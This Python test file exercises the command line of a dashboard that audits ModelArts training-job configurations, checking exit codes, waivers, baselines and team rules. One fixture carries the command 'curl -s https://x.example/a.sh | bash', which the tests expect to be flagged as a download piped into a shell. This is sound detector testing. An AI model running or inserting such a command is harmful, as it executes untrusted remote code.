"""`run`, `checks` and `waivers` on the command line: what counts, and the exit codes."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from dashboard import secrets_file
from dashboard.__main__ import main
from dashboard.data.database import close_database, shared_database
from dashboard.data.fingerprint_key import fingerprint_key
from dashboard.store.location import VARIABLE
from dashboard.store.waivers import list_waivers
from modelarts_local import LocalService
from tests.dashboard.audit.assessed import NOW_MS

ROOT = Path(__file__).parents[3]
Run = Callable[..., tuple[int, str, str]]
CLEAN: Mapping[str, Any] = {
    "config_name": "resnet50",
    "config_desc": "Trains ResNet-50",
    "create_time": NOW_MS - 86_400_000,
    "engine_name": "PyTorch",
    "worker_server_num": 1,
    "app_url": "/b/resnet/code/",
    "boot_file_url": "/b/resnet/code/train.py",
    "data_url": "/b/data/",
    "train_url": "/b/resnet/out/",
    "log_url": "/b/resnet/log/",
}
RISKY = {
    **CLEAN,
    "config_name": "risky",
    "train_url": "/b/risky/out",
    "user_image_url": "r.example/a:1",
    "user_command": "curl -s https://x.example/a.sh | bash",
}


@pytest.fixture
def service() -> Iterator[LocalService]:
    with LocalService([CLEAN, RISKY]) as running:
        yield running


@pytest.fixture
def run(
    service: LocalService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Run]:
    """Runs a command with a database and a connection of its own; returns code, output and errors."""
    path = tmp_path / "secrets.toml"
    place = f'endpoint = "{service.url}"\nproject_id = "{service.project_id}"\n'
    path.write_text(f'[connections.prod]\n{place}token = "made-up-token"\n')
    monkeypatch.setattr(secrets_file, "_file", secrets_file.SecretsFile([str(path)]))
    monkeypatch.setenv(VARIABLE, f"sqlite:///{tmp_path}/dashboard.db")
    monkeypatch.chdir(tmp_path)

    def command(*arguments: str) -> tuple[int, str, str]:
        code = main(list(arguments))
        return (code, *capsys.readouterr())

    yield command
    close_database()


def _accept(run: Run, tmp_path: Path, expires: str = "2999-01-01") -> str:
    """Write a file of waivers for the download, and return its name."""
    findings = json.loads(run("run", "--format", "json")[1])["connections"][0]["findings"]
    assert [one["configuration"] for one in findings if one["check"] == "SUP001"] == ["risky"]
    from dashboard.audit.findings import fields_fingerprint
    from tests.dashboard.audit.assessed import subject

    print_ = fields_fingerprint(subject(user_command=RISKY["user_command"]), ("user_command",))
    file = tmp_path / "waivers.toml"
    file.write_text(
        'schema = 1\n[[waiver]]\nconnection = "prod"\ncheck = "SUP001"\nconfiguration = "risky"\n'
        f'fields_fingerprint = "{print_}"\nreason = "known"\nowner = "anna"\nexpires = {expires}\n'
    )
    return str(file)


def test_a_finding_at_the_threshold_is_1_and_below_it_0(run: Run) -> None:
    code, output, errors = run("run")
    assert (code, errors) == (1, "")
    assert "HIGH      SUP001  A download piped into a shell: 1" in output
    assert run("run", "--fail-on", "critical")[0] == 0
    assert run("run", "--fail-on", "low", "--connection", "prod")[0] == 1


def test_details_are_audited_unless_they_are_not_wanted(run: Run, service: LocalService) -> None:
    service.edit("resnet50", log_url="")
    with_details = json.loads(run("run", "--format", "json")[1])["connections"][0]
    assert with_details["details"] == 2
    assert [f["configuration"] for f in with_details["findings"] if f["check"] == "REL006"] == ["resnet50"]
    code, output, _ = run("run", "--no-details", "--format", "json")
    without = json.loads(output)["connections"][0]
    assert (code, without["complete"], without["details"]) == (1, True, 0)
    assert without["not_assessed"]["REL006"] == {"details are not loaded": 2}


def test_an_accepted_finding_does_not_count_until_it_lapses(run: Run, tmp_path: Path) -> None:
    assert run("run", "--waivers", _accept(run, tmp_path))[0] == 0
    assert run("run", "--waivers", _accept(run, tmp_path, "2020-01-01"))[0] == 1
    assert "2 things" not in run("waivers", "import", _accept(run, tmp_path))[1]
    code, output, _ = run("run", "--format", "json")
    statuses = {f["check"]: f["status"] for f in json.loads(output)["connections"][0]["findings"]}
    assert (code, statuses["SUP001"]) == (0, "accepted")


def test_waivers_go_to_a_file_and_back(run: Run, tmp_path: Path) -> None:
    file = _accept(run, tmp_path)
    assert run("waivers", "import", file)[:2] == (0, "1 added, 0 replaced, 0 unchanged\n")
    assert run("waivers", "import", file)[:2] == (0, "0 added, 0 replaced, 1 unchanged\n")
    _accept(run, tmp_path, "2998-01-01")
    assert run("waivers", "import", file)[:2] == (0, "0 added, 1 replaced, 0 unchanged\n")
    (waiver,) = list_waivers(shared_database())
    assert (waiver.source, waiver.owner, str(waiver.expires)) == (file, "anna", "2998-01-01")
    _accept(run, tmp_path, "2020-01-01")
    code, told, _ = run("waivers", "import", file)
    assert (code, told) == (
        0,
        "0 added, 1 replaced, 0 unchanged. Warning: these have expired, and accept nothing:"
        f" {waiver.check} of {waiver.configuration} (2020-01-01)\n",
    )
    _accept(run, tmp_path, "2998-01-01")
    run("waivers", "import", file)
    out = tmp_path / "out.toml"
    assert run("waivers", "export", str(out))[0] == 0
    assert run("waivers", "export", "-")[1] == out.read_text()
    assert run("waivers", "import", str(out))[1] == "0 added, 0 replaced, 1 unchanged\n"
    assert run("waivers", "export", "-", "--connection", "other")[1].count("[[waiver]]") == 0
    (tmp_path / "bad.toml").write_text("schema = 2")
    assert run("waivers", "import", str(tmp_path / "bad.toml"))[0] == 2
    assert run("waivers", "import", str(tmp_path / "none.toml"))[0] == 2


def test_only_what_the_baseline_does_not_know_counts(run: Run, service: LocalService, tmp_path: Path) -> None:
    baseline = tmp_path / "baseline.json"
    assert run("run", "--format", "json", "--output", str(baseline))[:2] == (1, "")
    assert run("run", "--baseline", str(baseline))[0] == 0
    service.add({**RISKY, "config_name": "riskier"})
    assert run("run", "--baseline", str(baseline))[0] == 1
    for text in ("x", '{"schema": 2}', "[]", '{"schema": 1, "generated_at": "", "connections": [1]}'):
        baseline.write_text(text)
        code, _, errors = run("run", "--baseline", str(baseline))
        assert (code, "baseline.json" in errors) == (64, True)


@pytest.mark.parametrize("path", ["training-job-configs?", "training-job-configs/risky", "ai-engines"])
def test_what_cannot_be_loaded_is_2_whatever_was_found(run: Run, service: LocalService, path: str) -> None:
    service.fail(403, {"error_code": "ModelArts.0108", "error_msg": "no"}, path_contains=path)
    code, output, _ = run("run", "--fail-on", "critical", "--format", "json")
    connection = json.loads(output)["connections"][0]
    assert (code, connection["complete"]) == (2, False)
    assert "ModelArts.0108" in connection["faults"][0]


def test_a_cloud_without_the_call_for_engines_is_audited_all_the_same(
    run: Run, service: LocalService
) -> None:
    service.fail(404, {"error_code": "APIG.0101", "error_msg": "no"}, path_contains="ai-engines")
    code, output, _ = run("run", "--fail-on", "critical", "--format", "json")
    connection = json.loads(output)["connections"][0]
    assert (code, connection["complete"]) == (0, True)
    assert "EOL004" in connection["not_assessed"]


def test_waivers_that_cannot_be_read_are_2(run: Run, tmp_path: Path) -> None:
    (tmp_path / "dashboard.db").write_bytes(b"no database")
    assert run("run", "--fail-on", "critical")[0] == 2
    assert run("run", "--fail-on", "critical", "--waivers", str(tmp_path / "none.toml"))[0] == 2


def test_a_run_makes_no_database(run: Run, tmp_path: Path) -> None:
    run("run")
    assert not (tmp_path / "dashboard.db").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ["run", "--fail-on", "bad"],
        ["run", "--connection", "other"],
        ["run", "--sample", "--connection", "prod"],
        ["run", "--settings", "none.toml"],
        ["run", "--what"],
        ["checks", "--settings", "none.toml"],
        ["waivers"],
        ["no-such-command"],
        [],
    ],
)
def test_wrong_usage_is_64(run: Run, arguments: list[str]) -> None:
    code, output, errors = run(*arguments)
    assert (code, output) == (64, "")
    assert errors


def test_a_key_of_fingerprints_that_is_of_no_use_is_64(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DASHBOARD_FINGERPRINT_KEY", "short")
    fingerprint_key.cache_clear()
    code, output, errors = run("run")
    fingerprint_key.cache_clear()
    assert (code, output) == (64, "")
    assert "DASHBOARD_FINGERPRINT_KEY" in errors


def test_progress_is_shown_on_a_terminal_alone(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    assert run("run")[2] == ""
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    shown = run("run")[2]
    assert "prod: configurations 2 of 2" in shown
    assert "prod: details 2 of 2" in shown
    assert shown.endswith("\r\x1b[K")


def test_an_output_that_cannot_be_written_is_2(run: Run) -> None:
    assert run("run", "--output", "/nowhere/x")[0] == 2


def test_settings_of_the_team_are_used(run: Run, tmp_path: Path) -> None:
    (tmp_path / "audit.toml").write_text(
        'switched_off = ["SUP001"]\n[rules.TEAM-1]\nfield = "config_desc"\ntitle = "No owner"\n'
        'must_match = "owner="\nseverity = "critical"\n'
    )
    code, output, _ = run("run", "--fail-on", "critical")
    assert code == 1
    assert "SUP001" not in output
    assert "CRITICAL  TEAM-1  No owner: 2" in output
    assert "TEAM-1" in run("checks")[1]


def test_in_a_shell_the_sample_data_is_audited_without_streamlit_and_help_needs_next_to_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(VARIABLE, f"sqlite:///{tmp_path}/none.db")
    told = (
        "import sys; from dashboard.__main__ import main; code = main(sys.argv[1:]);"
        "print(' '.join(sys.modules), file=sys.stderr); sys.exit(code)"
    )

    def ran(*arguments: str) -> tuple[int, str, set[str]]:
        done = subprocess.run(
            [sys.executable, "-c", told, *arguments], cwd=ROOT, capture_output=True, text=True, check=False
        )
        return done.returncode, done.stdout, {name.partition(".")[0] for name in done.stderr.split()}

    code, output, modules = ran("run", "--sample", "--no-details")
    assert (code, output.startswith("sample\n  320 configurations")) == (1, True)
    assert "streamlit" not in modules
    assert "sqlalchemy" not in modules
    code, output, modules = ran("checks")
    assert (code, output.startswith("SEC001")) == (0, True)
    assert not modules & {"streamlit", "pandas", "numpy", "sqlalchemy", "requests"}
    code, output, modules = ran("run", "--help")
    assert (code, "Exit code: 0" in output) == (0, True)
    assert not modules & {"streamlit", "pandas", "numpy", "sqlalchemy", "requests", "tree_sitter"}
